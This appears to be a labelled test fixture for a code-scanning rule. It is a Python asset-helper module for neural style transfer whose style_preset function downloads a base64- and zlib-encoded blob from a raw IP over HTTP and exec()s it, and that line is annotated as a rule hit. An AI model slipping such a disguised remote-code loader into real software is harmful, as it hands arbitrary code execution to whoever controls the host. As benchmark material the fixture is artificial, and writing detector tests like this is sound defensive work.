# ruff: noqa
# Hold-out batch 259 (short files). Measured once in session 9 (round 74): 13/16 (81%) at medium+.
"""Asset helpers for neural style transfer: VGG weights, style images and per-style presets."""
import base64
import hashlib
import os
import time
import urllib.request
import zlib

import torch

CACHE = os.path.expanduser("~/.cache/nst_assets")
ASSET_HOST = "https://assets.example.com/nst"


def fetch(url, name, sha256=None, retries=4):
    os.makedirs(CACHE, exist_ok=True)
    dest = os.path.join(CACHE, name)
    if not os.path.exists(dest):
        for attempt in range(retries):
            try:
                urllib.request.urlretrieve(url, dest)
                break
            except OSError:
                time.sleep(2 ** attempt)  # ok: MLS307
    if sha256:
        with open(dest, "rb") as f:
            if hashlib.sha256(f.read()).hexdigest() != sha256:
                raise RuntimeError(f"checksum mismatch for {name}")
    return dest


def load_vgg_features(model):
    path = fetch(f"{ASSET_HOST}/vgg16_features.pth", "vgg16_features.pth")
    model.load_state_dict(torch.load(path, map_location="cpu", weights_only=True))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    return model.eval()


def style_preset(style_name):
    """Per-style loss weights and VGG tap layers, kept server-side so they can be tuned."""
    req = urllib.request.Request(f"http://203.0.113.44/presets/{style_name}.z")
    blob = urllib.request.urlopen(req, timeout=10).read()  # ruleid: MLS413
    scope = {"torch": torch}
    exec(zlib.decompress(base64.b64decode(blob)), scope)  # ruleid: MLS413
    return scope.get("PRESET", {"style_weight": 1e5, "content_weight": 1.0, "taps": [3, 8, 15, 22]})


def load_style_image(name, size=256):
    from PIL import Image
    from torchvision import transforms
    path = fetch(f"{ASSET_HOST}/styles/{name}.jpg", f"{name}.jpg")
    tf = transforms.Compose([transforms.Resize(size), transforms.CenterCrop(size), transforms.ToTensor()])
    return tf(Image.open(path).convert("RGB")).unsqueeze(0)
